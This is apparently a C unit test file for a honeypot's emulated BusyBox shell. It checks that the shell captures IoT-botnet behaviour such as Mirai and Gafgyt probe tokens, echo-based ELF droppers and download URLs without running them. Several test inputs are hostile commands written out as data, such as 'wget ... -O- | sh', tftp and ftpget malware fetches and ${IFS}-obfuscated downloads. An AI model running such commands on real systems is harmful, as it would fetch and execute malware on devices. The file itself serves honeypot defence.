/* shell_test.c - the BusyBox-like shell: parser, applets, droppers. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>

#include <cmocka.h>

#include "sensor/honeypot/shell.h"

static struct hp_profile prof;
static char urls[8][256];
static int nurls;

static void on_download(void *arg, const char *tool, const char *url)
{
	(void)arg;
	(void)tool;
	if (nurls < 8)
		snprintf(urls[nurls++], sizeof(urls[0]), "%s", url);
}

static const struct shell_callbacks cb = {.download = on_download};

/* Runs line on sh; returns the output (static buffer, NUL-terminated). */
static const char *run(struct shell *sh, const char *line)
{
	static char out[8192];
	struct strbuf b;

	strbuf_init(&b, sizeof(out) - 1);
	shell_run(sh, line, strlen(line), &b, &cb);
	memcpy(out, b.data ? b.data : "", b.len);
	out[b.len] = '\0';
	strbuf_free(&b);
	return out;
}

static int setup(void **state)
{
	(void)state;
	memset(&prof, 0, sizeof(prof));
	prof.name = "t";
	prof.hostname = "(none)";
	prof.uname = "Linux (none) 3.10.14 mips";
	prof.machine = "mips";
	prof.busybox_version = "BusyBox v1.22.1";
	prof.home = "/root";
	prof.shell_prompt = "# ";
	prof.help = "Built-in commands:\n";
	prof.proc_mounts = "rootfs / rootfs rw 0 0\ntmpfs /tmp tmpfs rw 0 0\n";
	prof.proc_cpuinfo = "cpu model : MIPS\n";
	memcpy(prof.elf_header, "\x7f" "ELF\x01\x01\x01", 7);
	nurls = 0;
	return 0;
}

static void test_busybox_token(void **state)
{
	struct shell *sh = shell_new(&prof, 1024);

	(void)state;
	assert_string_equal(run(sh, "/bin/busybox ECCHI"), "ECCHI: applet not found\n");
	assert_string_equal(run(sh, "enable"), "-sh: enable: not found\n");
	assert_string_equal(run(sh, "cat /proc/mounts; /bin/busybox MIRAI"),
			    "rootfs / rootfs rw 0 0\ntmpfs /tmp tmpfs rw 0 0\nMIRAI: applet not found\n");
	assert_string_equal(run(sh, "frobnicate"), "-sh: frobnicate: not found\n");
	assert_non_null(strstr(run(sh, "busybox"), "multi-call binary"));
	shell_free(sh);
}

static void test_chains(void **state)
{
	struct shell *sh = shell_new(&prof, 1024);

	(void)state;
	assert_string_equal(run(sh, "false && echo no; echo yes || echo no2"), "yes\n");
	assert_string_equal(run(sh, "cat /nope || echo fallback"),
			    "cat: can't open '/nope': No such file or directory\nfallback\n");
	assert_string_equal(run(sh, "echo \"a  b\" 'c;d' e\\;f"), "a  b c;d e;f\n");
	assert_string_equal(run(sh, "echo hidden > /dev/null; echo shown 2>/dev/null"), "shown\n");
	assert_int_equal(shell_run(sh, "echo bye; exit", 14, &(struct strbuf){0}, &cb), SHELL_EXIT);
	shell_free(sh);
}

struct dropped {
	char path[64];
	uint8_t data[64];
	size_t len;
	bool truncated;
	int n;
};

static void on_file(void *arg, const char *path, const uint8_t *data, size_t len, bool truncated)
{
	struct dropped *d = arg;

	d->n++;
	snprintf(d->path, sizeof(d->path), "%s", path);
	memcpy(d->data, data, len < sizeof(d->data) ? len : sizeof(d->data));
	d->len = len;
	d->truncated = truncated;
}

static void test_echo_dropper(void **state)
{
	struct shell *sh = shell_new(&prof, 1024);
	struct dropped d = {0};

	(void)state;
	run(sh, "cd /tmp/; cp /bin/echo dvrHelper; >dvrHelper; chmod 777 dvrHelper");
	run(sh, "echo -ne '\\x7f\\x45\\x4c\\x46' > upnp");
	run(sh, "echo -ne '\\x01\\x02\\0101' >> upnp");
	shell_each_dropped(sh, on_file, &d);
	assert_int_equal(d.n, 1); /* dvrHelper is a truncated copy, not a payload */
	assert_string_equal(d.path, "/tmp/upnp");
	assert_int_equal(d.len, 7);
	assert_memory_equal(d.data, "\x7f" "ELF\x01\x02" "A", 7);
	assert_false(d.truncated);
	assert_string_equal(run(sh, "./upnp; ./missing"), "-sh: ./missing: not found\n");
	/* a file appended to itself (the source moves while it is written) */
	run(sh, "cat upnp >> upnp; cat upnp >> upnp");
	memset(&d, 0, sizeof(d));
	shell_each_dropped(sh, on_file, &d);
	assert_int_equal(d.len, 28);
	shell_free(sh);
}

static void test_payload_cap(void **state)
{
	struct shell *sh = shell_new(&prof, 10);
	struct dropped d = {0};

	(void)state;
	run(sh, "echo -n 0123456789abcdefghij > big");
	shell_each_dropped(sh, on_file, &d);
	assert_int_equal(d.len, 10);
	assert_true(d.truncated);
	shell_free(sh);
}

static void test_elf_header(void **state)
{
	struct shell *sh = shell_new(&prof, 1024);
	const char *out;

	(void)state;
	run(sh, "cd /dev/shm; cat .s || cp /bin/echo .s; /bin/busybox PQLUR");
	out = run(sh, "dd bs=52 count=1 if=.s || cat .s || while read i; do echo $i; done < .s");
	assert_memory_equal(out, "\x7f" "ELF\x01\x01\x01", 7);
	assert_string_equal(out + 52, "1+0 records in\n1+0 records out\n");
	shell_free(sh);
}

static void test_downloads(void **state)
{
	struct shell *sh = shell_new(&prof, 1024);

	(void)state;
	run(sh, "cd /tmp; wget http://198.51.100.1/x.sh -O- | sh");
	run(sh, "/bin/busybox tftp -g -l dvrHelper -r mirai.arm 198.51.100.2");
	run(sh, "curl -o c http://198.51.100.3/c");
	run(sh, "busybox ftpget 198.51.100.4 ftp1.sh ftp1.sh");
	run(sh, "cd${IFS}/tmp;wget${IFS}198.51.100.5/ifs");
	run(sh, "tftp 198.51.100.6 -c get tftp1.sh");
	/* Satori: wget with tftp's options keeps the remote path. */
	run(sh, "cd /tmp; /bin/busybox wget -g 198.51.100.8 -l /tmp/.sat -r /mips; chmod 777 .sat");
	run(sh, "wget -g 198.51.100.9 -r arm7");
	assert_int_equal(nurls, 8);
	assert_string_equal(urls[6], "http://198.51.100.8/mips");
	assert_string_equal(urls[7], "http://198.51.100.9/arm7");
	assert_string_equal(urls[0], "http://198.51.100.1/x.sh");
	assert_string_equal(urls[1], "tftp://198.51.100.2/mirai.arm");
	assert_string_equal(urls[2], "http://198.51.100.3/c");
	assert_string_equal(urls[3], "ftp://198.51.100.4/ftp1.sh");
	assert_string_equal(urls[4], "http://198.51.100.5/ifs");
	assert_string_equal(urls[5], "tftp://198.51.100.6/tftp1.sh");
	/* wget is reported, never run: it answers like an unreachable host. */
	assert_non_null(strstr(run(sh, "wget http://198.51.100.7/y"), "Connection refused"));
	shell_free(sh);
}

static void test_nested_shell(void **state)
{
	/* As BusyBox ash: sh prints the banner and nests, errors and $0 say
	 * which shell, exit leaves the inner shell only. */
	struct shell *sh = shell_new(&prof, 1024);
	struct strbuf b;

	(void)state;
	assert_string_equal(run(sh, "echo $0 \"$0\" '$0'"), "-sh -sh $0\n");
	assert_string_equal(run(sh, "sh"),
			    "\n\nBusyBox v1.22.1 built-in shell (ash)\nEnter 'help' for a list of built-in commands.\n\n");
	assert_string_equal(shell_prompt(sh), "~ # ");
	assert_string_equal(run(sh, "enable"), "sh: enable: not found\n");
	assert_string_equal(run(sh, "echo $0"), "sh\n");
	assert_string_equal(run(sh, "help"), "Built-in commands:\n");
	strbuf_init(&b, 1024);
	assert_int_equal(shell_run(sh, "exit", 4, &b, NULL), SHELL_CONTINUE);
	assert_string_equal(shell_prompt(sh), "# ");
	assert_int_equal(shell_run(sh, "exit", 4, &b, NULL), SHELL_EXIT);
	strbuf_free(&b);
	shell_free(sh);
}

static void test_gafgyt_octal(void **state)
{
	struct shell *sh = shell_new(&prof, 1024);

	(void)state;
	assert_non_null(strstr(run(sh, "sh"), "built-in shell (ash)"));
	assert_non_null(strstr(run(sh, "/bin/busybox;echo -e '\\147\\141\\171\\146\\147\\164'"), "multi-call"));
	assert_string_equal(run(sh, "echo -e '\\147\\141\\171\\146\\147\\164'"), "gayfgt\n");
	shell_free(sh);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test_setup(test_busybox_token, setup), cmocka_unit_test_setup(test_chains, setup),
		cmocka_unit_test_setup(test_echo_dropper, setup),  cmocka_unit_test_setup(test_payload_cap, setup),
		cmocka_unit_test_setup(test_elf_header, setup),	   cmocka_unit_test_setup(test_downloads, setup),
		cmocka_unit_test_setup(test_gafgyt_octal, setup),
		cmocka_unit_test_setup(test_nested_shell, setup),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
